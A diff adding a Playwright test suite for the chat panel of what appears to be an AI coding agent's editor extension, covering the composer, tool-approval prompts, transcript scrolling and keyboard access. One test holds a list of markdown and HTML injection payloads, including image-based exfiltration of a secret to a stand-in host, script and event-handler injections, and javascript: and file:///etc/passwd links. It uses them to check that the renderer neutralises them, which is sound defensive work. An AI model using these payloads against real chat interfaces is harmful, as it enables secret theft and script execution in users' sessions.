@@ -1,0 +1,452 @@
+import assert from 'node:assert/strict';
+import type { ApprovalView, HostMessage } from '../../src/protocol/messages.ts';
+import type { Item } from '../../src/protocol/transcript.ts';
+import { type ChatPage, PageHarness, type PageOptions } from './pageHarness/openPage.ts';
+import { editApproval, idle, panelStates } from './pageHarness/states.ts';
+
+const user = (id: string, text = `Question ${id}`): Item => ({ kind: 'user', id, text, chips: [] });
+const prose = (id: string, text: string, state: 'streaming' | 'done' = 'done'): Item => ({ kind: 'text', id, text, state });
+
+/** Turns of a question and an answer of a few lines. */
+function conversation(count: number): Item[] {
+	return Array.from({ length: count }, (_, index) =>
+		index % 2 === 0 ? user(`i${index}`) : prose(`i${index}`, `Answer ${index}.\n\nWith a second paragraph.\n\nAnd a third.`),
+	);
+}
+
+function snapshotOf(items: readonly Item[], from = 0, total = items.length, state = idle): HostMessage {
+	return { type: 'snapshot', state, total, from, items, view: 'chat' };
+}
+
+const running = { ...idle, activity: 'running' } as const;
+
+describe('the chat page', function () {
+	this.timeout(60_000);
+	let harness: PageHarness;
+	let opened: ChatPage[] = [];
+
+	before(async () => {
+		harness = await PageHarness.start();
+	});
+	after(() => harness?.stop());
+	afterEach(async () => {
+		const complaints = opened.flatMap(chat => chat.complaints);
+		await Promise.all(opened.map(chat => chat.close()));
+		opened = [];
+		assert.deepEqual(complaints, []);
+	});
+
+	async function open(messages: readonly HostMessage[], options: PageOptions = {}): Promise<ChatPage> {
+		const chat = await harness.open(options);
+		opened.push(chat);
+		await chat.send(...messages);
+		await chat.takePosted();
+		return chat;
+	}
+
+	describe('composer', () => {
+		it('sends with Enter, breaks the line with Shift+Enter, and leaves Enter to an input method', async () => {
+			const chat = await open([snapshotOf([])]);
+			const text = chat.page.getByLabel('Message', { exact: true });
+			await text.click();
+			await text.pressSequentially('one');
+			await text.press('Shift+Enter');
+			await text.pressSequentially('two');
+			await text.evaluate(element =>
+				element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })),
+			);
+			assert.deepEqual(await chat.takePosted(), []);
+			await text.press('Enter');
+			assert.deepEqual(await chat.takePosted(), [{ type: 'send', text: 'one\ntwo' }]);
+			assert.equal(await text.inputValue(), '');
+			await text.press('Enter');
+			assert.deepEqual(await chat.takePosted(), []);
+		});
+
+		it('grows with its text up to two fifths of the view', async () => {
+			const chat = await open([snapshotOf([])], { height: 700 });
+			const text = chat.page.getByLabel('Message', { exact: true });
+			const height = async () => (await text.boundingBox())?.height ?? 0;
+			assert.equal(await height(), 30);
+			await text.fill('a\nb\nc\nd');
+			assert.ok((await height()) > 80);
+			await text.fill('line\n'.repeat(60));
+			assert.equal(Math.round(await height()), 280);
+		});
+
+		it('offers Stop while a turn runs, and sends what is typed besides', async () => {
+			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
+			await chat.page.getByRole('button', { name: 'Stop' }).click();
+			await chat.page.getByLabel('Message', { exact: true }).fill('and tabs');
+			await chat.page.getByRole('button', { name: 'Send with the next step' }).click();
+			await chat.page.keyboard.press('Escape');
+			assert.deepEqual(await chat.takePosted(), [{ type: 'stop' }, { type: 'send', text: 'and tabs' }, { type: 'stop' }]);
+		});
+
+		it('keeps the draft when the page is rebuilt, and takes one from the host', async () => {
+			const chat = await open([snapshotOf([])]);
+			await chat.page.getByLabel('Message', { exact: true }).fill('half a thought');
+			await chat.page.reload();
+			await chat.waitFor('ready');
+			await chat.send(snapshotOf([]));
+			assert.equal(await chat.page.getByLabel('Message', { exact: true }).inputValue(), 'half a thought');
+			await chat.send({ type: 'draft', text: 'given back' });
+			assert.equal(await chat.page.getByLabel('Message', { exact: true }).inputValue(), 'given back');
+		});
+
+		it('names what the editor offers, and sends a suggestion together with the file it is about', async () => {
+			const chat = await open(panelStates['empty-no-key'] ?? []);
+			await chat.page.getByRole('button', { name: 'Outline the open file' }).click();
+			await chat.page.getByRole('button', { name: 'parse.ts:40-46' }).click();
+			assert.deepEqual(await chat.takePosted(), [
+				{ type: 'toggleChip', id: 'lines' },
+				{ type: 'send', text: 'Outline the open file' },
+				{ type: 'toggleChip', id: 'lines' },
+			]);
+		});
+	});
+
+	describe('approval', () => {
+		const waiting = (approval: ApprovalView): HostMessage => ({
+			type: 'state',
+			state: { ...idle, activity: 'waiting', approval },
+		});
+
+		it('is answered by its buttons with the nonce that was shown', async () => {
+			const chat = await open(panelStates['approval'] ?? []);
+			await chat.page.getByRole('button', { name: 'Allow', exact: true }).click();
+			await chat.send(waiting({ ...editApproval, nonce: 'n-3' }));
+			await chat.page.getByRole('button', { name: 'More ways to allow' }).click();
+			await chat.page.getByRole('menuitem', { name: 'Allow in this session' }).click();
+			await chat.page.getByRole('button', { name: 'Skip' }).click();
+			const answers = (await chat.takePosted()).filter(({ type }) => type === 'answer');
+			assert.deepEqual(answers, [
+				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'once' },
+				{ type: 'answer', callId: 'c3', nonce: 'n-3', allow: 'session' },
+				{ type: 'answer', callId: 'c3', nonce: 'n-3', allow: 'no' },
+			]);
+		});
+
+		it('takes a double click as one answer, so that the next question is read first', async () => {
+			const chat = await open(panelStates['approval'] ?? []);
+			await chat.page.getByRole('button', { name: 'Allow', exact: true }).dblclick();
+			assert.equal((await chat.takePosted()).length, 1);
+		});
+
+		it('is answered by keys from the text, and by what is typed there', async () => {
+			const chat = await open(panelStates['approval'] ?? []);
+			const text = chat.page.getByLabel('Message', { exact: true });
+			await text.press('Control+Enter');
+			await text.press('Control+Escape');
+			assert.equal(await text.getAttribute('placeholder'), 'Say what to do instead');
+			await text.fill('use map');
+			await text.press('Enter');
+			assert.deepEqual(await chat.takePosted(), [
+				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'once' },
+				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'no' },
+				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'no', instead: 'use map' },
+			]);
+		});
+
+		it('does not take the focus, and offers no session-wide answer for protected files', async () => {
+			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
+			await chat.page.getByLabel('Message', { exact: true }).focus();
+			await chat.send(waiting({ ...editApproval, canAllowSession: false }));
+			assert.equal(await chat.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Message');
+			await chat.page.getByRole('button', { name: 'More ways to allow' }).click();
+			assert.deepEqual(await chat.page.getByRole('menuitem').allTextContents(), ['Open diff']);
+		});
+
+		it('shows all of a large diff in a body that scrolls, with the buttons in sight', async () => {
+			const lines = Array.from({ length: 400 }, (_, index) => `+line ${index}`);
+			const detail = { kind: 'diff', path: 'a.ts', hunks: [{ oldStart: 1, newStart: 1, lines }] } as const;
+			const chat = await open([snapshotOf([user('u1')], 0, 1, running), waiting({ ...editApproval, detail })]);
+			assert.equal(await chat.page.locator('.approval .diff-line').count(), 400);
+			await chat.page.getByText('line 399').scrollIntoViewIfNeeded();
+			const box = await chat.page.getByRole('button', { name: 'Skip' }).boundingBox();
+			assert.ok(box !== null && box.y + box.height < 720);
+		});
+	});
+
+	describe('transcript', () => {
+		it('opens at the end and stays there while text arrives', async () => {
+			const items = [...conversation(41), prose('open', 'Start.', 'streaming')];
+			const chat = await open([snapshotOf(items, 0, items.length, running)]);
+			for (let index = 0; index < 20; index++) {
+				await chat.send({ type: 'deltas', deltas: [{ type: 'append', index: 41, text: `\n\nParagraph ${index}` }] });
+				assert.ok((await distanceFromEnd(chat)) < 2);
+			}
+		});
+
+		it('does not move while the user reads above, until a message is sent', async () => {
+			const items = [...conversation(41), prose('open', 'Start.', 'streaming')];
+			const chat = await open([snapshotOf(items, 0, items.length, running)]);
+			await scrollBy(chat, -600);
+			const before = await topEntry(chat);
+			const append = { type: 'append', index: 41, text: '\n\nMore text.\n\nAnd more.' } as const;
+			await chat.send({ type: 'deltas', deltas: [append, append, append] });
+			assert.deepEqual(await topEntry(chat), before);
+			assert.ok(await chat.page.getByRole('button', { name: 'To the end' }).isVisible());
+			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 42, item: user('new') }] });
+			assert.ok((await distanceFromEnd(chat)) < 2);
+			assert.equal(await chat.page.getByRole('button', { name: 'To the end' }).count(), 0);
+		});
+
+		it('asks for earlier items near the top and keeps its place when they come', async () => {
+			const all = conversation(500);
+			const chat = await open([snapshotOf(all.slice(440), 440, 500)]);
+			await scrollBy(chat, -100_000);
+			assert.deepEqual(await chat.waitFor('range'), { type: 'range', before: 440, count: 60 });
+			const before = await topEntry(chat);
+			await chat.takePosted();
+			await chat.send({ type: 'items', from: 380, items: all.slice(380, 440) });
+			const after = await topEntry(chat);
+			assert.equal(after.id, before.id);
+			assert.ok(Math.abs(after.offset - before.offset) <= 1, `${before.offset} became ${after.offset}`);
+		});
+
+		it('never holds more than its window, and comes back to the end', async () => {
+			const all = conversation(1000);
+			const chat = await open([snapshotOf(all.slice(940), 940, 1000)]);
+			for (let from = 940; from > 500; from -= 60) {
+				await scrollBy(chat, -100_000);
+				await chat.waitFor('range');
+				await chat.takePosted();
+				const before = await topEntry(chat);
+				await chat.send({ type: 'items', from: from - 60, items: all.slice(from - 60, from) });
+				assert.deepEqual(await topEntry(chat), before);
+			}
+			assert.ok((await chat.page.locator('[data-entry]').count()) <= 200);
+			await chat.page.getByRole('button', { name: 'To the end' }).click();
+			assert.deepEqual(await chat.waitFor('range'), { type: 'range', before: 1000, count: 60 });
+			await chat.send({ type: 'items', from: 940, items: all.slice(940) });
+			assert.ok((await distanceFromEnd(chat)) < 2);
+			assert.equal(await chat.page.locator('[data-entry]').last().getAttribute('data-entry'), 'i999');
+		});
+
+		it('asks for a snapshot when it is out of step', async () => {
+			const chat = await open([snapshotOf(conversation(4))]);
+			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 9, item: user('x') }] });
+			const posted = await chat.takePosted();
+			assert.deepEqual(
+				posted.map(({ type }) => type),
+				['pageError', 'ready'],
+			);
+		});
+
+		it('comes back to the same place when the page is rebuilt', async () => {
+			const items = conversation(60);
+			const chat = await open([snapshotOf(items)]);
+			await scrollBy(chat, -900);
+			const before = await topEntry(chat);
+			await chat.page.reload();
+			await chat.waitFor('ready');
+			await chat.send(snapshotOf(items));
+			const after = await topEntry(chat);
+			assert.equal(after.id, before.id);
+			assert.ok(Math.abs(after.offset - before.offset) <= 1);
+		});
+
+		it('touches only the open block of a growing answer', async () => {
+			const chat = await open([snapshotOf([user('u1'), prose('t1', 'First.\n\nSecond **bold', 'streaming')], 0, 2, running)]);
+			await chat.page.evaluate(() => {
+				const changes: string[] = [];
+				Object.assign(globalThis, { changes });
+				new MutationObserver(records => {
+					for (const { target } of records) {
+						const block = target instanceof Element ? target.closest('.block') : target.parentElement?.closest('.block');
+						changes.push(block?.textContent?.slice(0, 5) ?? 'outside');
+					}
+				}).observe(document.body, { subtree: true, childList: true, characterData: true });
+			});
+			await chat.send({ type: 'deltas', deltas: [{ type: 'append', index: 1, text: ' text** and more' }] });
+			const changes = await chat.page.evaluate(() => (globalThis as unknown as { changes: string[] }).changes);
+			assert.ok(changes.length > 0);
+			assert.deepEqual([...new Set(changes)], ['Secon']);
+		});
+
+		it('folds the finished rows of a turn that is over, and leaves failed ones in sight', async () => {
+			const chat = await open(panelStates['done'] ?? []);
+			assert.equal(await chat.page.getByText('Searched').count(), 0);
+			assert.ok(await chat.page.getByText('The pattern is not a regular expression').isVisible());
+			const fold = chat.page.getByRole('button', { name: 'Worked 4 steps' });
+			await fold.click();
+			assert.equal(await chat.page.getByText('Searched').count(), 1);
+		});
+
+		it('opens files, diffs and links through the host alone', async () => {
+			const chat = await open(panelStates['working'] ?? []);
+			await chat.page.getByRole('link', { name: 'src/parse.ts' }).click();
+			await chat.page.getByRole('link', { name: 'test/parse.test.ts:12' }).click();
+			await chat.page.getByRole('link', { name: 'the documentation' }).click();
+			await chat.page.getByRole('button', { name: 'Insert at cursor' }).click();
+			await chat.page.getByRole('button', { name: 'Copy', exact: true }).click();
+			await chat.page.getByRole('button', { name: 'Edited src/parse.ts done' }).click();
+			await chat.page.getByRole('button', { name: 'Open diff' }).click();
+			const code =
+				'export function parse(text: string): Token[] {\n' +
+				'	return words(text).map((word, at) => ({ word, at, isLast: at === words.length - 1 }));\n' +
+				'} // one pass, no second next()\n';
+			assert.deepEqual(await chat.takePosted(), [
+				{ type: 'openFile', path: 'src/parse.ts', line: 41 },
+				{ type: 'openFile', path: 'test/parse.test.ts', line: 12 },
+				{ type: 'openLink', url: 'https://example.com/parse' },
+				{ type: 'insert', text: code },
+				{ type: 'copy', text: code },
+				{ type: 'openDiff', callId: 'c4' },
+			]);
+			assert.equal(await chat.page.getByRole('status').textContent(), 'Copied');
+			assert.equal(new URL(chat.page.url()).hash, '');
+		});
+	});
+
+	describe('hostile answers', () => {
+		it('load nothing, make no element of their own and lead nowhere', async () => {
+			const text = [
+				'![x](http://l.example/?k=SECRET) <img src=http://l.example/a onerror="top.pwned=1"> ![r][r]',
+				'[![a](http://l.example/b)](http://l.example/c)',
+				'<script>top.pwned = 1</script>',
+				'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+				'<form action="http://l.example"><button>go</button></form>',
+				'<base href="http://l.example"><meta http-equiv="refresh" content="0;url=http://l.example">',
+				'<style>@import "http://l.example/s.css";</style>',
+				'<svg onload="top.pwned=1"><image href="http://l.example/i"/></svg>',
+				'```mermaid\n%%{init: {"htmlLabels": true}}%%\nA["<img src=http://l.example/m>"]\nclick A href "http://l.example"\n```',
+				'[a](javascript:top.pwned=1) [b](command:workbench.action.quit) [c](vscode://x/y) [d](file:///etc/passwd)',
+				'[r]: http://l.example/r',
+			].join('\n\n');
+			const chat = await open([snapshotOf([prose('t1', text), user('u1', text)])]);
+			assert.deepEqual(chat.foreignRequests, []);
+			const found = await chat.page.evaluate(() => ({
+				elements: document.querySelectorAll('#app :is(img, script, iframe, form, base, meta, style, svg, object, embed)').length,
+				links: [...document.querySelectorAll('a')].map(link => link.textContent),
+				pwned: 'pwned' in globalThis,
+			}));
+			assert.deepEqual(found, { elements: 0, links: ['x', 'r', 'a'], pwned: false });
+		});
+	});
+
+	describe('keyboard', () => {
+		it('goes with Tab in reading order, with the transcript as one stop besides what the current message holds', async () => {
+			const chat = await open(panelStates['approval'] ?? []);
+			await chat.page.evaluate(() => document.body.focus());
+			await chat.page.getByRole('button', { name: 'All sessions' }).focus();
+			const stops = [await focusedName(chat)];
+			for (let index = 0; index < 20 && stops.at(-1) !== 'Stop (Escape)'; index++) {
+				await chat.page.keyboard.press('Tab');
+				stops.push(await focusedName(chat));
+			}
+			assert.deepEqual(stops, [
+				'All sessions',
+				'More actions',
+				'Agent',
+				'src/parse.ts',
+				'Thought for 4 s done',
+				'src/parse.ts',
+				'Keep',
+				'Undo',
+				'Open diff',
+				'Changes of src/parse.ts',
+				'Allow',
+				'More ways to allow',
+				'Skip',
+				'Message',
+				'Model: Claude Sonnet 5, $3/$15',
+				'Stop (Escape)',
+			]);
+		});
+
+		it('moves between messages with arrows, into one with Enter and out with Escape', async () => {
+			const chat = await open([snapshotOf([user('u1'), prose('t1', 'See [x](src/x.ts).'), user('u2'), prose('t2', 'End.')])]);
+			await chat.page.getByLabel('Message', { exact: true }).focus();
+			await chat.page.keyboard.press('Control+ArrowUp');
+			const steps = [await focusedName(chat)];
+			for (const key of ['ArrowUp', 'ArrowUp', 'Enter', 'Escape', 'Home', 'End']) {
+				await chat.page.keyboard.press(key);
+				steps.push(await focusedName(chat));
+			}
+			assert.deepEqual(steps, ['Agent', 'You', 'Agent', 'x', 'Agent', 'You', 'Agent']);
+			assert.deepEqual(await chat.takePosted(), []);
+		});
+
+		it('opens a menu with an arrow, moves in it, and gives the focus back', async () => {
+			const chat = await open([snapshotOf(conversation(2))]);
+			await chat.page.getByRole('button', { name: 'More actions' }).focus();
+			const names: string[] = [];
+			for (const key of ['ArrowDown', 'ArrowDown', 'ArrowDown', 'Escape']) {
+				await chat.page.keyboard.press(key);
+				await chat.send();
+				names.push(await focusedName(chat));
+			}
+			assert.deepEqual(names, ['New session', 'Delete session', 'New session', 'More actions']);
+		});
+
+		it('finds, opens and deletes sessions', async () => {
+			const chat = await open(panelStates['sessions'] ?? []);
+			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('date');
+			await chat.page.keyboard.press('Enter');
+			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('');
+			await chat.page.getByRole('listbox').focus();
+			await chat.page.keyboard.press('End');
+			await chat.page.keyboard.press('Delete');
+			assert.deepEqual(await chat.takePosted(), [
+				{ type: 'openSession', sessionId: 's4' },
+				{ type: 'deleteSession', sessionId: 's5' },
+			]);
+			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('nothing like it');
+			await chat.page.getByRole('button', { name: 'Clear search' }).click();
+			assert.equal(await chat.page.getByRole('option').count(), 5);
+		});
+	});
+
+	it('reads out what the host announces, and the same words again', async () => {
+		const chat = await open([snapshotOf(conversation(2))]);
+		await chat.send({ type: 'announce', text: 'Edit parse.ts?', isUrgent: true });
+		const first = await chat.page.getByRole('alert').locator('p').elementHandle();
+		await chat.send({ type: 'announce', text: 'Edit parse.ts?', isUrgent: true });
+		assert.equal(await chat.page.getByRole('alert').textContent(), 'Edit parse.ts?');
+		assert.equal(await first?.evaluate(element => element.isConnected), false);
+		assert.equal(await chat.page.getByRole('log').getAttribute('aria-live'), 'off');
+	});
+
+	it('mirrors itself for right-to-left languages without anything wider than the view', async () => {
+		const chat = await open(panelStates['done'] ?? [], { direction: 'rtl', width: 300 });
+		const back = await chat.page.getByRole('button', { name: 'All sessions' }).boundingBox();
+		assert.ok(back !== null && back.x > 150);
+		assert.equal(await chat.page.evaluate(() => document.documentElement.scrollWidth), 300);
+	});
+});
+
+function distanceFromEnd(chat: ChatPage): Promise<number> {
+	return chat.page.locator('.scroller').evaluate(element => element.scrollHeight - element.scrollTop - element.clientHeight);
+}
+
+/** Scrolls as a user does and waits until the page has taken notice. */
+async function scrollBy(chat: ChatPage, pixels: number): Promise<void> {
+	await chat.page.locator('.scroller').evaluate(
+		(element, by) =>
+			new Promise<void>(resolve => {
+				element.addEventListener('scroll', () => requestAnimationFrame(() => resolve()), { once: true });
+				element.scrollTop += by;
+			}),
+		pixels,
+	);
+}
+
+/** The entry at the top edge of the transcript, and where its top is. */
+function topEntry(chat: ChatPage): Promise<{ readonly id: string | null; readonly offset: number }> {
+	return chat.page.locator('.scroller').evaluate(scroller => {
+		const top = scroller.getBoundingClientRect().top;
+		const entry = [...scroller.querySelectorAll('[data-entry]')].find(one => one.getBoundingClientRect().bottom > top);
+		return {
+			id: entry?.getAttribute('data-entry') ?? null,
+			offset: (entry?.getBoundingClientRect().top ?? 0) - top,
+		};
+	});
+}
+
+function focusedName(chat: ChatPage): Promise<string> {
+	return chat.page.evaluate(
+		() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent?.trim() ?? '',
+	);
+}
